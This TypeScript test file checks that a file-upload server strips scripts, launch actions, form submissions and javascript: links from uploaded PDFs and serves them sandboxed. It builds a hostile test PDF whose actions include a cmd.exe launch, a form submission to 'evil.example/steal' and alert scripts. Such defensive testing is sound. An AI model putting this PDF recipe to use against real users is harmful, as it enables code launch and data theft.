/**
 * Scripts in uploaded PDFs never run (tracker issue 36 item 3): a PDF with an `/OpenAction` JavaScript, a
 * document-level script, page and field additional actions, a launch, a form submission and a `javascript:` link
 * is stored and delivered without any of them (checked in qpdf's QDF form, so objects inside object streams are
 * seen), keeps its ordinary web link, is answered with `Content-Security-Policy: sandbox` and a disposition chosen
 * by type, and raises no dialog in Chromium's PDF viewer (where the PDF as sent does).
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { eq } from "drizzle-orm";
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFString } from "pdf-lib";
import { describe, expect, it } from "vitest";
import { chromiumArgs, chromiumPath } from "../../../scripts/chromium";
import { files } from "../src/db/schema";
import { removePdfActions } from "../src/files/pdf-actions";
import { basePath } from "./support/contract-check";
import { multipart } from "./support/multipart";
import { describeBackends, newResident, type Harness } from "./support/harness";


/**
 * A one-page PDF, saved with object streams (so a plain search of its bytes finds nothing), that runs
 * `app.alert('pwned')` when opened and carries every other kind of active content the store removes.
 */
async function scriptedPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  const ctx = doc.context;
  const action = (entries: Record<string, unknown>) => ctx.register(ctx.obj({ Type: "Action", ...entries } as never));
  const js = (code: string) => action({ S: "JavaScript", JS: PDFString.of(code) });
  doc.catalog.set(PDFName.of("OpenAction"), js("app.alert('pwned');"));
  doc.catalog.set(PDFName.of("AA"), ctx.obj({ WC: js("app.alert('closing');") }));
  const scripts = ctx.obj({ Names: [PDFString.of("init"), js("app.alert('names');")] });
  doc.catalog.set(PDFName.of("Names"), ctx.obj({ JavaScript: ctx.register(scripts) }));
  page.node.set(PDFName.of("AA"), ctx.obj({ O: js("app.alert('page');") }));
  const link = (a: unknown, y: number) =>
    ctx.register(ctx.obj({ Type: "Annot", Subtype: "Link", Rect: [50, y, 250, y + 20], Border: [0, 0, 0], A: a } as never));
  const annots = ctx.obj([
    link(action({ S: "Launch", F: PDFString.of("cmd.exe"), NewWindow: true }), 700),
    link(action({ S: "SubmitForm", F: ctx.obj({ FS: "URL", F: PDFString.of("https://evil.example/steal") }) }), 650),
    link(action({ S: "URI", URI: PDFString.of(" JavaScript:alert(1)") }), 600),
    link(action({ S: "URI", URI: PDFString.of("https://www.example.go.th/") }), 550),
  ]);
  const field = ctx.register(
    ctx.obj({ FT: "Tx", T: PDFString.of("name"), Type: "Annot", Subtype: "Widget", Rect: [50, 400, 250, 420], AA: ctx.obj({ K: js("app.alert('key');") }) } as never),
  );
  (annots as PDFArray).push(field);
  page.node.set(PDFName.of("Annots"), annots);
  doc.catalog.set(PDFName.of("AcroForm"), ctx.obj({ Fields: [field], XFA: PDFString.of("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>") } as never));
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** The PDF in qpdf's QDF form (every object uncompressed, no object streams), as text. */
function qdf(pdf: Buffer): string {
  const dir = mkdtempSync(join(tmpdir(), "pdf-scripts-"));
  try {
    writeFileSync(join(dir, "in.pdf"), pdf);
    execFileSync("qpdf", ["--qdf", "--object-streams=disable", join(dir, "in.pdf"), join(dir, "out.pdf")]);
    return readFileSync(join(dir, "out.pdf")).toString("latin1");
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Every active-content marker that must be gone. */
const ACTIVE = ["/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/SubmitForm", "/XFA", "avaScript:", "app.alert"];

function expectNoActiveContent(pdf: Buffer): void {
  const text = qdf(pdf);
  for (const marker of ACTIVE) expect(text.includes(marker), marker).toBe(false);
  expect(text).toContain("https://www.example.go.th/");
}

async function upload(h: Harness, token: string, data: Buffer): Promise<{ id: string; size: number }> {
  const res = await h.call("uploadFile", { token, ...multipart([{ name: "file", filename: "คำร้อง.pdf", type: "application/pdf", data }]) });
  expect(res.status, res.json.message).toBe(201);
  return res.json.data as { id: string; size: number };
}

async function download(h: Harness, token: string, id: string) {
  return h.inject({ method: "GET", url: `${basePath}/v1/ESFilepublic/watermark/${id}`, headers: { "px-auth-token": token } });
}

/** What {@link dialogsInChromium} saw. */
interface ViewerRun {
  /** Dialogs raised. */
  dialogs: number;
  /** Milliseconds from the start of the navigation to the first dialog, or null when none came. */
  firstDialogMs: number | null;
}

/**
 * Opens `pdf` in headless Chromium (its PDF viewer runs a PDF's JavaScript even headless), served with `headers`,
 * and counts the dialogs it raises: until the first one when `until` is "first dialog" (at most 30 s), else for
 * `until` milliseconds.
 */
async function dialogsInChromium(pdf: Buffer, headers: Record<string, string>, until: "first dialog" | number): Promise<ViewerRun> {
  const { chromium } = await import("playwright");
  const server = createServer((_req, res) => {
    res.writeHead(200, headers);
    res.end(pdf);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const browser = await chromium.launch({ executablePath: chromiumPath(), headless: true, args: chromiumArgs });
  try {
    const page = await browser.newPage();
    const run: ViewerRun = { dialogs: 0, firstDialogMs: null };
    const started = Date.now();
    let firstDialog = () => {};
    const first = new Promise<void>((resolve) => (firstDialog = resolve));
    page.on("dialog", (dialog) => {
      run.dialogs += 1;
      run.firstDialogMs ??= Date.now() - started;
      firstDialog();
      void dialog.dismiss();
    });
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/file.pdf`);
    // The viewer loads in its own frame and runs the open action after the document is parsed.
    const wait = until === "first dialog" ? 30_000 : until;
    await Promise.race([until === "first dialog" ? first : new Promise(() => {}), page.waitForTimeout(wait)]);
    return run;
  } finally {
    await browser.close();
    await new Promise((resolve) => server.close(resolve));
  }
}

describe("removePdfActions", () => {
  it("leaves a PDF without active content byte for byte as it is", async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    const plain = Buffer.from(await doc.save());
    const result = await removePdfActions(plain);
    expect(result.removed).toBe(0);
    expect(result.content.equals(plain)).toBe(true);
  });

  it("removes scripts, launch, submit and javascript: links, also inside object streams", async () => {
    const original = await scriptedPdf();
    expect(original.includes("OpenAction")).toBe(false); // inside a compressed object stream: grep misses it
    expect(qdf(original)).toContain("/OpenAction");
    const { content, removed } = await removePdfActions(original);
    expect(removed).toBeGreaterThan(0);
    expectNoActiveContent(content);
    const reloaded = await PDFDocument.load(content);
    expect(reloaded.getPageCount()).toBe(1);
    expect(reloaded.getPage(0).node.lookup(PDFName.of("Annots"), PDFArray).size()).toBe(5);
    expect(reloaded.catalog.lookup(PDFName.of("Names"), PDFDict).has(PDFName.of("JavaScript"))).toBe(false);
  });
});

describeBackends("PDF uploads", (h) => {
  it("stores and delivers a scripted PDF without its scripts, sandboxed and inline", async () => {
    const { token } = await newResident(h(), "pdfjs");
    const file = await upload(h(), token, await scriptedPdf());
    const [row] = await h().server.database.db.select({ content: files.content }).from(files).where(eq(files.id, file.id));
    expect(row!.content.length).toBe(file.size);
    expectNoActiveContent(row!.content);

    const res = await download(h(), token, file.id);
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("application/pdf");
    expect(String(res.headers["content-security-policy"])).toMatch(/^sandbox(;|$)/);
    expect(res.headers["x-content-type-options"]).toBe("nosniff");
    expect(String(res.headers["content-disposition"])).toMatch(/^inline; filename="_+\.pdf"; filename\*=UTF-8''/);
    expectNoActiveContent(res.rawPayload);
  });

  it(
    "raises no dialog in Chromium's PDF viewer, where the PDF as sent does",
    async () => {
      const { token } = await newResident(h(), "pdfchrome");
      const original = await scriptedPdf();
      const res = await download(h(), token, (await upload(h(), token, original)).id);
      expect(res.statusCode).toBe(200);
      const headers = { "content-type": "application/pdf", "content-security-policy": String(res.headers["content-security-policy"]) };
      // The control: the same viewer, under the same headers, runs the script of the PDF as sent. How long the viewer
      // takes grows with the machine's load (a fixed 3 s was too short once in a full run on 2 cores), so the cleaned
      // PDF gets three times the control's time to raise one: at least 3 s, at most 45 s.
      const control = await dialogsInChromium(original, headers, "first dialog");
      expect(control.dialogs).toBeGreaterThan(0);
      const cleaned = await dialogsInChromium(res.rawPayload, headers, Math.min(45_000, Math.max(3000, 3 * control.firstDialogMs!)));
      expect(cleaned.dialogs).toBe(0);
    },
  );
});
